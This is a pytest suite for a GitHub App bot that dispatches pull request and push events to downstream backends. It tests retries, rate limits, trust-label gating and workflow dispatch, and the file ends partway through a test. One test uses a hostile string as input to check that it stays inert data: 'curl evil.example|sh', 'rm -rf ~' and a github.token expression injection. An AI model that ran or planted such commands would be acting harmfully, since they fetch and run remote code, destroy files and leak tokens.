"""Dispatches: which backends get an event, when and how often; retries, refusals, policies, workflows, pushes."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path

import pytest

from bot.app import make_worker
from bot.core.clock import SystemClock
from bot.oot.verdict.words import OK_TO_TEST
from tests import harness
from tests.harness import L1, L2, L3, L4, UPSTREAM
from tests.process import PATIENCE
from tests.serving import SQLITE

pytestmark = pytest.mark.logic


MOST_CHARACTERS = 65_535
DISPATCHES = r"/dispatches$"
READS_INPUTS = "name: Upstream\non: {workflow_dispatch: {inputs: {client_payload: {required: true}}}}\n"


def dispatched_to(github, repo=None):
    """Return the backends dispatched to, in order."""
    names = [dispatch.repo.full_name for dispatch in github.dispatches]
    return names if repo is None else [name for name in names if name == repo]


async def recorded(bot, repo, column):
    """Return a column of a backend's dispatches, oldest first."""
    rows = [row for row in await bot.rows("oot_dispatch") if row["backend"] == repo]
    return [row[column] for row in sorted(rows, key=lambda row: row["created_at"])]


async def states(bot, repo):
    return await recorded(bot, repo, "state")


async def reasons(bot, repo):
    return await recorded(bot, repo, "error")


async def list_backends(bot, text):
    """Put another allowlist in force."""
    Path(bot.context.settings.allowlist).write_text(text)
    bot.clock.advance(61)
    await bot.settle()


def posts(github, repo):
    """Return GitHub's status for each attempt to dispatch to a repository."""
    return [
        call.status for call in github.calls
        if call.method == "POST" and call.path.startswith(f"/repos/{repo}/") and call.path.endswith("/dispatches")
    ]  # fmt: skip


# Known mistakes of similar services


async def test_u5_a_report_that_comes_before_github_has_answered_is_expected(bot, github):
    answers = []

    async def report_at_once(dispatch):
        if dispatch.repo.full_name == L2:
            answers.append(await bot.report(dispatch, status="in_progress"))

    github.on_dispatch = report_at_once
    github.faults.add(method="POST", path=rf"{L2}/dispatches$", when="after", status=502, times=1)
    await github.open_pull(UPSTREAM)
    await bot.settle(horizon=60)
    assert [status for status, _ in answers] == [200]
    assert await states(bot, L2) == ["sent"]
    assert len(dispatched_to(github, L2)) == 1


async def test_u6_one_backend_that_fails_holds_no_other_up_and_a_redelivery_repeats_nothing(bot, github):
    github.faults.add(method="POST", path=rf"{L2}/dispatches$", status=502, times=3)
    await github.open_pull(UPSTREAM)
    await bot.settle()
    assert sorted(dispatched_to(github)) == sorted([L1, L3, L4])
    (opened,) = [delivery for delivery in github.deliveries if delivery.event == "pull_request"]
    await github.redeliver(opened)
    await bot.settle(horizon=120)
    assert sorted(dispatched_to(github)) == sorted([L1, L2, L3, L4])


@pytest.mark.parametrize("letter", ["x", "\U0001f680", '"'], ids=["ascii", "emoji", "quotes"])
async def test_u7_the_longest_description_reaches_every_backend(bot, github, letter):
    pull = await github.open_pull(UPSTREAM, body=letter * 65_536)
    await bot.settle()
    assert sorted(dispatched_to(github)) == sorted([L1, L2, L3, L4])
    for dispatch in github.dispatches:
        assert len(dispatch.client_payload) <= 10
        assert len(json.dumps(dispatch.client_payload)) <= MOST_CHARACTERS
        inner = dispatch.client_payload["payload"]
        assert "pull_request.body" in inner["truncated"]
        assert inner["pull_request"]["head"]["sha"] == pull.head_sha


async def test_u8_shell_and_expression_syntax_of_an_author_arrives_as_data(bot, github):
    hostile = "$(curl evil.example|sh)`id`\"; ${{ github.token }} ' && rm -rf ~"
    await github.open_pull(UPSTREAM, title=hostile, body=hostile)
    body = json.loads(json.dumps(github.deliveries[0].payload))
    body["pull_request"]["head"]["ref"] = hostile
    await bot.send("pull_request", body, guid="hostile")
    await bot.settle()
    sent = [one for one in github.dispatches if one.client_payload["delivery_id"] == "hostile"]
    assert {one.repo.full_name for one in sent} == {L1, L2, L3, L4}
    for dispatch in sent:
        assert dispatch.event_type == "pull_request"
        pull = dispatch.client_payload["payload"]["pull_request"]
        assert (pull["title"], pull["body"], pull["head"]["ref"]) == (hostile, hostile, hostile)


async def test_u18_the_webhook_is_answered_before_github_is_asked_anything(bot, github):
    pull = await github.open_pull(UPSTREAM)
    await bot.settle()
    before = len(github.calls)
    await github.push_commit(pull)
    (answer,) = [one.status_code for one in github.deliveries if one.action == "synchronize"]
    assert answer == 202
    assert len(github.calls) == before


# Retries and limits


@pytest.mark.parametrize(
    ("status", "headers"),
    [(429, {"Retry-After": "90"}), (403, {"Retry-After": "90"}), (403, {"X-RateLimit-Remaining": "0"})],
)
async def test_a_limit_of_github_leaves_the_dispatch_pending_until_it_is_over(bot, github, status, headers):
    github.faults.add(
        method="POST",
        path=rf"{L4}/dispatches$",
        status=status,
        headers=headers,
        body={"message": "slow down"},
    )
    await github.open_pull(UPSTREAM)
    await bot.settle(horizon=30)
    assert await states(bot, L4) == ["pending"]
    assert dispatched_to(github, L4) == []
    await bot.settle(horizon=120)
    assert await states(bot, L4) == ["sent"]
    assert len(dispatched_to(github, L4)) == 1


async def test_after_a_limit_somebody_elses_run_is_not_taken_for_ours(bot, github):
    github.faults.add(method="POST", path=rf"{L4}/dispatches$", status=429, headers={"Retry-After": "30"})
    await github.open_pull(UPSTREAM)
    await bot.settle()
    await github.start_run(L4, event="repository_dispatch", name="CI")
    await bot.settle(horizon=60)
    assert len(dispatched_to(github, L4)) == 1


@SQLITE
async def test_a_dispatch_that_always_fails_is_given_up_in_time(bot, github):
    await list_backends(bot, f"L2: [{{repo: {L2}, start_timeout: 3h}}]")
    github.faults.add(method="POST", path=rf"{L2}/dispatches$", status=502, times=100_000)
    await github.open_pull(UPSTREAM)
    await bot.wait(2.5 * 3600)
    assert await states(bot, L2) == ["pending"]
    await bot.wait(3600)
    assert await states(bot, L2) == ["failed"]
    before = len(posts(github, L2))
    await bot.wait(3600)
    assert len(posts(github, L2)) == before


async def test_a_newer_commit_drops_what_was_not_sent_of_the_one_before(bot, github):
    github.faults.add(method="POST", path=rf"{L4}/dispatches$", status=503, times=1)
    pull = await github.open_pull(UPSTREAM)
    await bot.settle()
    head = await github.push_commit(pull)
    await bot.settle(horizon=60)
    heads = [
        one.client_payload["payload"]["pull_request"]["head"]["sha"]
        for one in github.dispatches if one.repo.full_name == L4
    ]  # fmt: skip
    assert heads == [head]


async def test_an_opening_that_arrives_late_drops_nothing_of_the_commit_pushed_within_its_second(bot, github):
    github.faults.add(method="HOOK", path="opened")
    github.faults.add(method="POST", path=rf"{L4}/dispatches$", status=503, times=1)
    pull = await github.open_pull(UPSTREAM)
    head = await github.push_commit(pull)
    await bot.settle()
    (opened,) = [one for one in github.deliveries if one.action == "opened"]
    await github.redeliver(opened)
    await bot.settle(horizon=60)
    rows = [row for row in await bot.rows("oot_dispatch") if row["backend"] == L4]
    assert {row["head_sha"] == head: row["state"] for row in rows} == {True: "sent", False: "superseded"}


async def test_a_dispatch_superseded_while_it_is_sent_stays_so_and_shows_that_it_was_sent(bot, github):
    under_way, overtaken, sleep = asyncio.Event(), asyncio.Event(), bot.clock.sleep

    async def hold(seconds):
        if seconds != 7:
            return await sleep(seconds)
        under_way.set()
        return await overtaken.wait()

    bot.clock.sleep = hold
    github.faults.add(method="POST", path=rf"{L4}/dispatches$", status=None, delay=7)
    pull = await github.open_pull(UPSTREAM)
    settling = asyncio.create_task(bot.settle())
    await asyncio.wait_for(under_way.wait(), PATIENCE)
    head, other = await github.push_commit(pull), make_worker(bot.context)
    while await other.step():
        await github.settled()
    overtaken.set()
    await settling
    await bot.settle()
    rows = [row for row in await bot.rows("oot_dispatch") if row["backend"] == L4]
    first, second = sorted(rows, key=lambda row: row["head_sha"] == head)
    assert (first["state"], first["error"]) == ("superseded", "superseded while it was being sent")
    assert first["dispatched_at"] is not None
    assert second["state"] == "sent"


async def test_a_draft_is_dispatched_like_any_other_pull_request(bot, github):
    pull = await github.open_pull(UPSTREAM, draft=True)
    await bot.settle()
    assert len(dispatched_to(github)) == 4
    await github.ready_for_review(pull)
    await bot.settle()
    assert len(dispatched_to(github)) == 8
    for _ in range(2):
        bot.clock.advance(5)
        await github.ready_for_review(pull)
        await bot.settle()
    assert len(dispatched_to(github)) == 8


async def closed_and_reopened(bot, github, pull):
    for act in (github.close, github.reopen):
        bot.clock.advance(5)
        await act(pull)
        await bot.settle()


def verdict_dispatches(github, repo):
    """The dispatches to a backend that ask for a verdict."""
    sent = [one for one in github.dispatches if one.repo.full_name == repo]
    return [one for one in sent if one.client_payload["payload"]["action"] != "closed"]


async def test_reopening_runs_no_backend_again_that_has_ended_on_the_commit(bot, github):
    pull = await github.open_pull(UPSTREAM)
    await bot.settle()
    await bot.report(verdict_dispatches(github, L4)[-1], conclusion="failure")
    await bot.settle()
    for _ in range(3):
        await closed_and_reopened(bot, github, pull)
    assert len(verdict_dispatches(github, L4)) == 1
    assert bot.checks(UPSTREAM, pull.head_sha)["oot / gate"][1] == "failure"


async def test_reopening_runs_again_what_closing_may_have_ended_a_few_times(bot, github):
    pull = await github.open_pull(UPSTREAM)
    await bot.settle()
    for times in (2, 3, 4, 4, 4):
        await closed_and_reopened(bot, github, pull)
        assert len(verdict_dispatches(github, L4)) == times


async def test_reopening_runs_again_what_closing_cancelled(bot, github):
    pull = await github.open_pull(UPSTREAM)
    await bot.settle()
    await bot.report(verdict_dispatches(github, L4)[-1], conclusion="cancelled")
    await bot.report(verdict_dispatches(github, L3)[-1])
    await bot.settle()
    await closed_and_reopened(bot, github, pull)
    assert [len(verdict_dispatches(github, repo)) for repo in (L4, L3)] == [2, 1]
    assert bot.checks(UPSTREAM, pull.head_sha)["oot / gate"][2] == "waiting for tpu"


@pytest.mark.parametrize("late", ["the dispatch", "the webhook"])
async def test_a_closing_that_is_over_is_not_dispatched(bot, github, late):
    pull = await github.open_pull(UPSTREAM)
    await bot.settle()
    if late == "the dispatch":
        github.faults.add(
            method="POST", path="/dispatches$", status=429, headers={"Retry-After": "120"}, times=4
        )
    else:
        github.faults.add(method="HOOK", path="closed")
    await closed_and_reopened(bot, github, pull)
    for one in [one for one in github.deliveries if not one.ok]:
        await github.redeliver(one)
    await bot.settle(horizon=600)
    actions = [one.client_payload["payload"]["action"] for one in github.dispatches]
    assert set(actions) == {"opened", "reopened"}


@pytest.mark.parametrize("pushed_back", [False, True])
async def test_an_event_that_arrives_late_runs_nothing_again_that_a_later_one_of_its_commit_has_run(
    bot, github, pushed_back
):
    github.faults.add(method="HOOK", path="opened")
    pull = await github.open_pull(UPSTREAM)
    first = pull.head_sha
    if pushed_back:
        for commit in (None, first):
            bot.clock.advance(5)
            await github.push_commit(pull, commit=commit)
            await bot.settle()
    else:
        await closed_and_reopened(bot, github, pull)
    before = len(verdict_dispatches(github, L4))
    (opened,) = [one for one in github.deliveries if one.action == "opened"]
    await github.redeliver(opened)
    await bot.settle()
    assert len(verdict_dispatches(github, L4)) == before
    assert bot.dispatch(L4).client_payload["payload"]["pull_request"]["head"]["sha"] == first


async def base_left_before_its_event_arrives(bot, github):
    """Return a pull request whose event of another base branch arrives when it has left that again."""
    pull = await github.open_pull(UPSTREAM)
    await github.push(UPSTREAM, "release", message="a branch")
    await bot.settle()
    github.faults.add(method="HOOK", path="edited")
    for base in ("release", "main"):
        bot.clock.advance(60)
        await github.retarget(pull, base)
        await bot.settle()
    (late,) = [one for one in github.deliveries if one.action == "edited" and not one.ok]
    await github.redeliver(late)
    return pull


async def test_a_base_branch_left_before_its_event_arrives_runs_nothing(bot, github):
    pull = await base_left_before_its_event_arrives(bot, github)
    await bot.settle()
    assert len(verdict_dispatches(github, L4)) == 1
    assert sorted(await states(bot, L4)) == ["sent", "superseded"]
    bot.clock.advance(60)
    await github.retarget(pull, "release")
    await bot.settle()
    bases = [
        one.client_payload["payload"]["pull_request"]["base"]["ref"] for one in verdict_dispatches(github, L4)
    ]
    assert bases == ["main", "release"]


async def test_a_commit_pushed_back_is_dispatched_again(bot, github):
    pull = await github.open_pull(UPSTREAM)
    await bot.settle()
    for commit in (None, pull.head_sha):
        bot.clock.advance(5)
        await github.push_commit(pull, commit=commit)
        await bot.settle()
    assert [sent.client_payload["payload"]["action"] for sent in verdict_dispatches(github, L4)] == [
        "opened",
        "synchronize",
        "synchronize",
    ]


async def test_reopening_dispatches_to_a_backend_listed_meanwhile(bot, github):
    await list_backends(bot, f"L2: [{L2}]")
    pull = await github.open_pull(UPSTREAM)
    await bot.settle()
    await bot.report(verdict_dispatches(github, L2)[-1])
    await list_backends(bot, f"L2: [{L2}, {L3}]")
    await closed_and_reopened(bot, github, pull)
    assert [len(verdict_dispatches(github, repo)) for repo in (L2, L3)] == [1, 1]


async def test_nothing_more_is_dispatched_to_a_backend_taken_off_the_allowlist(bot, github):
    github.faults.add(method="POST", path=rf"{L4}/dispatches$", status=429, headers={"Retry-After": "120"})
    await github.open_pull(UPSTREAM)
    await bot.settle()
    await list_backends(bot, f"L2: [{L2}]")
    await bot.settle(horizon=600)
    assert dispatched_to(github, L4) == []
    assert await states(bot, L4) == ["failed"]
    assert "allowlist" in (await reasons(bot, L4))[0]


# Backends without the App, suspended, archived or renamed


async def test_a_suspended_app_is_said_to_be_suspended(bot, github):
    github.suspend(L4, github.app)
    pull = await github.open_pull(UPSTREAM)
    await bot.settle()
    status, conclusion, title = bot.checks(UPSTREAM, pull.head_sha)["oot / tpu"]
    assert (status, conclusion) == ("completed", "failure")
    assert "suspended" in title
    await bot.wait(3600)
    assert await states(bot, L4) == ["not_installed"]
    assert dispatched_to(github, L4) == []


async def test_an_app_suspended_while_its_token_is_held_is_said_to_be_suspended(bot, github):
    pull = await github.open_pull(UPSTREAM)
    await bot.settle()
    github.suspend(L4, github.app)
    bot.clock.advance(5)
    await github.push_commit(pull)
    await bot.settle()
    assert (await states(bot, L4))[-1] == "not_installed"
    assert "suspended" in (await reasons(bot, L4))[-1]


async def test_an_archived_backend_is_said_to_be_archived_and_not_asked_again(bot, github):
    github.archive(L4)
    pull = await github.open_pull(UPSTREAM)
    await bot.settle()
    assert bot.checks(UPSTREAM, pull.head_sha)["oot / tpu"][1] == "failure"
    assert "archived" in bot.checks(UPSTREAM, pull.head_sha)["oot / tpu"][2]
    await bot.wait(3600)
    assert posts(github, L4) == [403]


@pytest.mark.parametrize("known", [False, True])
async def test_a_renamed_backend_is_said_to_be_renamed(bot, github, known):
    if known:
        await github.open_pull(UPSTREAM)
        await bot.settle()
        bot.clock.advance(3600)  # the token's end, and that of what is believed about its installation
    moved = {"message": "Moved Permanently"}
    github.faults.add(method="GET", path=rf"{L4}/installation$", status=301, body=moved, times=10)
    pull = await github.open_pull(UPSTREAM)
    await bot.settle()
    assert (await states(bot, L4))[-1] == "failed"
    assert "renamed" in bot.checks(UPSTREAM, pull.head_sha)["oot / tpu"][2]
    assert "install" not in (await reasons(bot, L4))[-1]


@pytest.mark.parametrize("how", ["created", "added", "unsuspend"])
async def test_once_the_app_is_there_open_heads_are_dispatched_again(bot, github, how):
    if how == "unsuspend":
        github.suspend(L4, github.app)
    else:
        github.uninstall(L4, github.app)
    closed, pull = await github.open_pull(UPSTREAM), await github.open_pull(UPSTREAM)
    await bot.settle()
    await github.close(closed)
    await bot.settle()
    assert dispatched_to(github, L4) == []
    if how == "unsuspend":
        github.suspend(L4, github.app, suspended=False)
    installation = github.install(L4, github.app)
    await github.announce_installation(installation, how, github.state.repo(L4))
    await github.announce_installation(installation, how, github.state.repo(L4))
    await bot.settle(horizon=30)
    (sent,) = [one for one in github.dispatches if one.repo.full_name == L4]
    assert sent.client_payload["payload"]["pull_request"]["head"]["sha"] == pull.head_sha
    assert bot.checks(UPSTREAM, pull.head_sha)["oot / tpu"][:2] == ("queued", None)
    assert (await bot.report(sent, status="in_progress"))[0] == 200


async def test_a_backend_dispatched_to_again_has_its_present_level(bot, github):
    await list_backends(bot, f"L2: [{L4}]\n")
    github.uninstall(L4, github.app)
    pull = await github.open_pull(UPSTREAM)
    await bot.settle()
    await list_backends(bot, f"L4: {{tpu: {{{L4}: [dave]}}}}\n")
    installation = github.install(L4, github.app)
    await github.announce_installation(installation, "created", github.state.repo(L4))
    await bot.settle(horizon=30)
    assert bot.checks(UPSTREAM, pull.head_sha)["oot / tpu"][:2] == ("queued", None)
    await bot.report(bot.dispatch(L4))
    assert [row["downstream_repo_level"] for row in await bot.rows("oot_workflow_job")] == [4]


async def test_an_app_installed_again_is_found_though_its_old_installation_is_remembered(bot, github):
    await github.open_pull(UPSTREAM)
    await bot.settle()
    for name in (L2, L3, L4):
        github.uninstall(name, github.app)
    for name in (L2, L3, L4):
        github.install(name, github.app)
    await github.open_pull(UPSTREAM)
    await bot.settle()
    assert len(dispatched_to(github, L4)) == 2


async def test_a_pinned_backend_gets_dispatches_only_under_its_own_id(bot, github):
    right = github.state.repo(L2).id
    await list_backends(
        bot, f"L2:\n- {{repo: {L2}, repository_id: {right}}}\n- {{repo: {L1}, repository_id: 5}}\n"
    )
    await github.open_pull(UPSTREAM)
    await bot.settle()
    assert dispatched_to(github) == [L2]
    assert await states(bot, L1) == ["failed"]
    assert "repository_id 5" in (await reasons(bot, L1))[0]


# policy: trusted

TRUSTED = f"L2: [{L2}]\nL4:\n  tpu: {{{L4}: {{oncalls: dave, policy: trusted}}}}\n"


@pytest.fixture
async def stranger(bot, github):
    """A stranger's pull request, with a blocking backend that trusts only some authors."""
    await list_backends(bot, TRUSTED)
    pull = await github.open_pull(UPSTREAM, author="mallory", author_association="NONE")
    await bot.settle()
    return pull


@pytest.mark.parametrize("association", ["OWNER", "MEMBER", "COLLABORATOR", "CONTRIBUTOR"])
async def test_known_authors_are_dispatched_at_once(bot, github, association):
    await list_backends(bot, TRUSTED)
    await github.open_pull(UPSTREAM, author_association=association)
    await bot.settle()
    assert sorted(dispatched_to(github)) == sorted([L2, L4])


@pytest.mark.parametrize("association", ["NONE", "FIRST_TIMER", "FIRST_TIME_CONTRIBUTOR", "MANNEQUIN", None])
async def test_a_strangers_pull_request_is_held_and_says_so(bot, github, association):
    await list_backends(bot, TRUSTED)
    pull = await github.open_pull(UPSTREAM, author="mallory", author_association=association)
    await bot.wait(25 * 3600)
    assert dispatched_to(github) == [L2]
    checks = bot.checks(UPSTREAM, pull.head_sha)
    assert checks["oot / tpu"] == ("queued", None, "needs oot/ok-to-test")
    assert checks["oot / gate"] == ("in_progress", None, "needs oot/ok-to-test")
    status, page = await bot.get(f"/{UPSTREAM}/pull/{pull.number}")
    assert status == 200
    assert "oot/ok-to-test" in page


@pytest.mark.parametrize(("role", "label"), [("write", OK_TO_TEST), ("admin", OK_TO_TEST.upper())])
async def test_the_label_of_a_writer_releases_the_held_head(bot, github, stranger, role, label):
    github.set_permission(UPSTREAM, "carol", role)
    await github.label(stranger, label, "carol")
    await bot.settle(horizon=30)
    assert dispatched_to(github, L4) == [L4]
    assert bot.checks(UPSTREAM, stranger.head_sha)["oot / tpu"][:2] == ("queued", None)
    assert bot.checks(UPSTREAM, stranger.head_sha)["oot / gate"][2] == "waiting for tpu"
    assert bot.dispatch(L4).client_payload["payload"]["action"] == "opened"


@pytest.mark.parametrize("role", ["read", "none"])
async def test_the_label_of_somebody_who_may_not_write_changes_nothing(bot, github, stranger, role):
    github.set_permission(UPSTREAM, "eve", role)
    await github.label(stranger, OK_TO_TEST, "eve")
    await bot.wait(60)
    assert dispatched_to(github, L4) == []
    assert bot.checks(UPSTREAM, stranger.head_sha)["oot / gate"][2] == "needs oot/ok-to-test"


async def test_another_label_releases_nothing(bot, github, stranger):
    await github.label(stranger, "oot/ok-to-tes")
    await github.label(stranger, "OOT/ok-to-test ")
    await bot.settle()
    assert dispatched_to(github, L4) == []


async def test_a_later_commit_needs_the_label_again(bot, github, stranger):
    await github.label(stranger, OK_TO_TEST)
    await bot.settle()
    bot.clock.advance(60)
    head = await github.push_commit(stranger)
    await bot.settle(horizon=30)
    assert len(dispatched_to(github, L4)) == 1
    assert bot.checks(UPSTREAM, head)["oot / gate"][2] == "needs oot/ok-to-test"
    await github.unlabel(stranger, OK_TO_TEST)
    await github.label(stranger, OK_TO_TEST)
    await bot.settle()
    assert bot.dispatch(L4).client_payload["payload"]["pull_request"]["head"]["sha"] == head
    assert len(dispatched_to(github, L4)) == 2


async def test_the_label_releases_one_of_several_held_events(bot, github):
    await list_backends(bot, TRUSTED)
    await github.push(UPSTREAM, "release", message="a branch")
    draft = await github.open_pull(UPSTREAM, author="mallory", author_association="NONE", draft=True)
    for act in (lambda: github.ready_for_review(draft), lambda: github.retarget(draft, "release")):
        await bot.settle()
        bot.clock.advance(60)
        await act()
    await bot.settle()
    await github.label(draft, OK_TO_TEST)
    await bot.settle(horizon=30)
    assert dispatched_to(github, L4) == [L4]
    assert bot.dispatch(L4).client_payload["payload"]["pull_request"]["base"]["ref"] == "release"


async def test_the_label_releases_nothing_that_was_dispatched_since(bot, github, stranger):
    await list_backends(bot, TRUSTED.replace("policy: trusted", "policy: all"))
    github.set_permission(UPSTREAM, "wendy", "write")
    await github.comment(stranger, "/oot run tpu", "wendy")
    await bot.settle()
    assert dispatched_to(github, L4) == [L4]
    bot.clock.advance(60)
    await github.label(stranger, OK_TO_TEST)
    await bot.settle(horizon=30)
    assert dispatched_to(github, L4) == [L4]


async def test_a_label_for_an_older_commit_does_not_release_the_newer_one(bot, github, stranger):
    await github.label(stranger, OK_TO_TEST)
    head = await github.push_commit(stranger)
    await bot.settle(horizon=30)
    sent = {one.client_payload["payload"]["pull_request"]["head"]["sha"] for one in github.dispatches}
    assert (L4, head) not in {
        (one.repo.full_name, one.client_payload["payload"]["pull_request"]["head"]["sha"])
        for one in github.dispatches
    }
    assert head in sent


@pytest.mark.parametrize("merged", [False, True], ids=["closed", "merged"])
async def test_a_closing_tells_of_the_commit_that_was_sent_and_not_of_the_held_one(
    bot, github, stranger, merged
):
    await github.label(stranger, OK_TO_TEST)
    await bot.settle(horizon=30)
    approved = stranger.head_sha
    bot.clock.advance(60)
    held = await github.push_commit(stranger)
    await bot.settle()
    bot.clock.advance(60)
    await (github.merge(stranger) if merged else github.close(stranger))
    await bot.settle(horizon=30)
    assert dispatched_to(github, L4) == [L4, L4]
    told = bot.dispatch(L4).client_payload
    pull = told["payload"]["pull_request"]
    assert (told["payload"]["action"], pull["state"], pull["merged"]) == ("closed", "closed", merged)
    assert pull["head"]["sha"] == approved
    assert held not in json.dumps(told)
    assert (await bot.report(bot.dispatch(L4), run_id="77"))[0] == 200
    assert {row["head_sha"] for row in await bot.rows("oot_workflow_job")} == {approved}
    whole = bot.dispatch(L2).client_payload["payload"]
    assert (whole["action"], whole["pull_request"]["head"]["sha"]) == ("closed", held), (
        "it holds nothing back"
    )


async def test_the_label_may_arrive_before_the_pull_request(bot, github):
    await list_backends(bot, TRUSTED)
    hook, bot.app.webhook_url = bot.app.webhook_url, "http://127.0.0.1:9/nobody"
    pull = await github.open_pull(UPSTREAM, author="mallory", author_association="NONE")
    await github.label(pull, OK_TO_TEST)
    bot.app.webhook_url = hook
    opened, labeled = [one for one in github.deliveries if one.event == "pull_request"]
    for delivery in (labeled, opened):
        await github.redeliver(delivery)
        await bot.settle()
    assert dispatched_to(github, L4) == [L4]


async def test_the_same_label_twice_sends_once(bot, github, stranger):
    await github.label(stranger, OK_TO_TEST)
    await bot.settle()
    (labeled,) = [one for one in github.deliveries if one.action == "labeled"]
    await github.redeliver(labeled)
    await bot.settle()
    await github.unlabel(stranger, OK_TO_TEST)
    await github.label(stranger, OK_TO_TEST)
    await bot.settle()
    assert len(dispatched_to(github, L4)) == 1


async def test_the_closing_is_not_dispatched_where_everything_was_held(bot, github, stranger):
    await github.close(stranger)
    await bot.settle()
    assert dispatched_to(github, L4) == []
    assert await states(bot, L4) == ["superseded"]
    assert len(dispatched_to(github, L2)) == 2


async def test_the_rerun_button_does_not_release_a_held_head(bot, github, stranger):
    (check,) = [run for run in github.check_runs(UPSTREAM, stranger.head_sha) if run.name == "oot / tpu"]
    await github.rerequest(check.id)
    await bot.settle()
    assert dispatched_to(github, L4) == []


# dispatch: workflow

BY_WORKFLOW = f"L4:\n  tpu: {{{L4}: {{oncalls: dave, dispatch: workflow, workflow_file: upstream.yml}}}}\n"


@pytest.fixture
async def by_workflow(bot, github):
    github.set_file(L4, ".github/workflows/upstream.yml", READS_INPUTS)
    await list_backends(bot, BY_WORKFLOW)


@pytest.mark.usefixtures("by_workflow")
async def test_a_workflow_is_started_with_the_payload_as_its_input(bot, github):
    pull = await github.open_pull(UPSTREAM, title="Add \U0001f680", body="\U0001f680" * 65_536)
    await bot.settle()
    (sent,) = github.dispatches
    assert (sent.event_type, sent.ref, sent.workflow) == (
        "workflow_dispatch",
        "main",
        ".github/workflows/upstream.yml",
    )
    assert sorted(sent.client_payload) == ["client_payload"]
    assert len(json.dumps(sent.client_payload)) <= MOST_CHARACTERS
    client = json.loads(sent.client_payload["client_payload"])
    assert client["event_type"] == "pull_request"
    assert client["payload"]["pull_request"]["head"]["sha"] == pull.head_sha
    (row,) = await bot.rows("oot_dispatch")
    assert (row["state"], row["run_id"]) == ("sent", str(sent.run.id))
    assert "contents" not in {name for token in github.state.tokens.values() for name in token.permissions
                              if token.repository_ids == {sent.repo.id}}  # fmt: skip


@pytest.mark.usefixtures("by_workflow")
async def test_a_workflow_whose_answer_was_lost_is_found_again_by_listing(bot, github):
    github.faults.add(method="POST", path=DISPATCHES, when="after", status=502, times=1)
    await github.open_pull(UPSTREAM)
    await bot.settle(horizon=60)
    (sent,) = github.dispatches
    (row,) = await bot.rows("oot_dispatch")
    assert (row["state"], row["run_id"]) == ("sent", str(sent.run.id))


@pytest.mark.usefixtures("by_workflow")
async def test_a_run_that_a_person_started_is_not_taken_for_the_lost_one(bot, github):
    github.faults.add(method="POST", path=DISPATCHES, when="before", status=502, times=1)
    await github.open_pull(UPSTREAM)
    await bot.settle()
    github.state.workflow(github.state.repo(L4), "upstream", ".github/workflows/upstream.yml")
    await github.start_run(L4, event="workflow_dispatch", name="upstream", actor="carol")
    await bot.settle(horizon=60)
    (sent,) = github.dispatches
    (row,) = await bot.rows("oot_dispatch")
    assert row["run_id"] == str(sent.run.id)


async def test_a_workflow_that_is_not_there_is_named(bot, github):
    await list_backends(bot, BY_WORKFLOW)
    pull = await github.open_pull(UPSTREAM)
    await bot.settle()
    assert bot.checks(UPSTREAM, pull.head_sha)["oot / tpu"][1] == "failure"
    assert "upstream.yml" in bot.checks(UPSTREAM, pull.head_sha)["oot / tpu"][2]


# push

PUSHES = f"""
L1: [{{repo: {L1}, events: [push]}}]
L2:
- {{repo: {L2}, events: [pull_request, push], refs: [main, "release/*"]}}
- {{repo: {L3}, events: [push], refs: ["refs/tags/v*"]}}
L4: [{L4}]
"""


@pytest.mark.parametrize(
    ("ref", "backends"),
    [
        ("main", [L1, L2]),
        ("release/2", [L1, L2]),
        ("topic", [L1]),
        ("refs/tags/v1", [L3]),
        ("refs/tags/x", []),
    ],
)
async def test_a_push_goes_to_the_backends_whose_refs_it_matches(bot, github, ref, backends):
    await list_backends(bot, PUSHES)
    sha = await github.push(UPSTREAM, ref)
    await bot.settle()
    assert sorted(dispatched_to(github)) == sorted(backends)
    for dispatch in github.dispatches:
        assert dispatch.event_type == dispatch.client_payload["event_type"] == "push"
        assert dispatch.client_payload["payload"]["after"] == sha
    for row in await bot.rows("oot_dispatch"):
        assert (row["event_type"], row["pr_number"], row["head_sha"]) == ("push", None, sha)
    assert bot.checks(UPSTREAM, sha) == {}


async def test_the_deletion_of_a_branch_is_never_dispatched(bot, github):
    await list_backends(bot, PUSHES)
    await github.push(UPSTREAM, "topic")
    await bot.settle()
    (pushed,) = [one for one in github.deliveries if one.event == "push"]
    gone = pushed.payload | {
        "deleted": True, "created": False, "before": pushed.payload["after"], "after": "0" * 40,
        "commits": [], "head_commit": None,
    }  # fmt: skip
    await github.deliver("push", gone)
    await github.deliver("push", gone | {"deleted": False})
    await bot.settle()
    assert dispatched_to(github) == [L1]


async def test_a_deletion_goes_to_whoever_wants_it_and_nobody_has_to_answer(bot, github):
    await list_backends(
        bot,
        f"""
L2:
- {{repo: {L1}, events: [push]}}
- {{repo: {L2}, events: [push], deletions: true}}
- {{repo: {L3}, events: [push], refs: [main], deletions: true}}
- {{repo: {L4}, events: [push], refs: ["refs/heads/**", "refs/tags/**"], deletions: true, answers: all}}
""",
    )
    for ref, backends in {"topic": [L2, L4], "refs/tags/v1": [L4]}.items():
        github.dispatches.clear()
        await github.push(UPSTREAM, ref)
        await bot.settle()
        (pushed,) = [one for one in github.deliveries if one.event == "push"][-1:]
        github.dispatches.clear()
        gone = pushed.payload | {
            "deleted": True, "created": False, "before": pushed.payload["after"], "after": "0" * 40,
            "commits": [], "head_commit": None,
        }  # fmt: skip
        await github.deliver("push", gone)
        await bot.settle()
        assert sorted(dispatched_to(github)) == sorted(backends)
        assert bot.dispatch(L4).client_payload["payload"]["deleted"] is True
    told = await bot.report(bot.dispatch(L4))
    assert told == (200, {"ok": True, "status": "completed"})
    (job,) = await bot.rows("oot_workflow_job")
    assert (job["head_sha"], job["flags"]) == (None, {"no_start": True})
    await bot.wait(24 * 3600 + 120)
    ended = {row["state"] for row in await bot.rows("oot_dispatch") if row["action"] == "closed"}
    assert ended == {"sent"}
    assert (await bot.get(f"/oot/{L4}"))[0] == 200


async def test_an_entrys_own_actions_come_before_the_setting(bot, github):
    await list_backends(
        bot,
        f"L2: [{{repo: {L1}, actions: [opened, ready_for_review]}}, {{repo: {L2}, actions: synchronize}}, {L3}]",
    )
    pull = await github.open_pull(UPSTREAM, draft=True)
    await bot.settle()
    await github.push_commit(pull)
    await bot.settle()
    await github.ready_for_review(pull)
    await bot.settle()
    await github.close(pull)
    await bot.settle()

    def actions(repo):
        told = [one for one in github.dispatches if one.repo.full_name == repo]
        return [one.client_payload["payload"]["action"] for one in told]

    assert actions(L1) == ["opened", "ready_for_review"]
    assert actions(L2) == ["synchronize"]
    assert actions(L3) == ["opened", "synchronize", "ready_for_review", "closed"]


async def test_a_push_elsewhere_is_not_dispatched(bot, github):
    await list_backends(bot, PUSHES)
